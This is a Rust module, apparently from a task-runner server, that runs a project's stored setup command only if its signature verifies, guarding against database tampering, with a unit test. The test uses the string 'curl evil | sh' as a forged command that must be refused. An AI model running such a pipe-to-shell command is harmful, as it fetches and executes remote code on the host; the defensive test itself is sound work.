//! A project's setup command, and whether this server may run it (SPEC §8, docs/SECURITY.md
//! "Several nodes trust only each other"): the command is code, and anyone who can write to
//! the database can put a row there. The store signs a command when it is set through the
//! API (`StoreConfig::setup_key`, from the node secret or the token); only a command whose
//! signature holds is run.

use crate::mac::{constant_time_eq, setup_signature, Secret};
use crate::model::Project;

/// The project's setup command when this server (or a node with the same secret) set it;
/// `None` when it has none, or its signature is missing or forged. `None` means: run the
/// repository's `.maestro/setup.sh`, if any (`make::setup_script`).
pub fn trusted_setup(key: &Secret, project: &Project) -> Option<String> {
    let command = project.setup_command.as_deref()?;
    let Some(signature) = project.setup_signature.as_deref() else {
        tracing::warn!(project = project.id, "a setup command without a signature is not run");
        return None;
    };
    let want = setup_signature(key, &project.id, command);
    if !constant_time_eq(want.as_bytes(), signature.as_bytes()) {
        tracing::warn!(project = project.id, "a setup command whose signature does not hold is not run");
        return None;
    }
    Some(command.to_string())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn only_a_command_signed_with_this_key_for_this_project_is_trusted() {
        let key = Secret::random();
        let command = "npm ci".to_string();
        let signed = Project {
            id: "proj_a".into(),
            setup_signature: Some(setup_signature(&key, "proj_a", &command)),
            setup_command: Some(command.clone()),
            ..Project::default()
        };
        assert_eq!(trusted_setup(&key, &signed), Some(command));
        assert_eq!(trusted_setup(&Secret::random(), &signed), None, "another server's key");
        let moved = Project { id: "proj_b".into(), ..signed.clone() };
        assert_eq!(trusted_setup(&key, &moved), None, "a signature moved to another project");
        let edited = Project { setup_command: Some("curl evil | sh".into()), ..signed.clone() };
        assert_eq!(trusted_setup(&key, &edited), None, "another command");
        let unsigned = Project { setup_signature: None, ..signed };
        assert_eq!(trusted_setup(&key, &unsigned), None);
    }
}
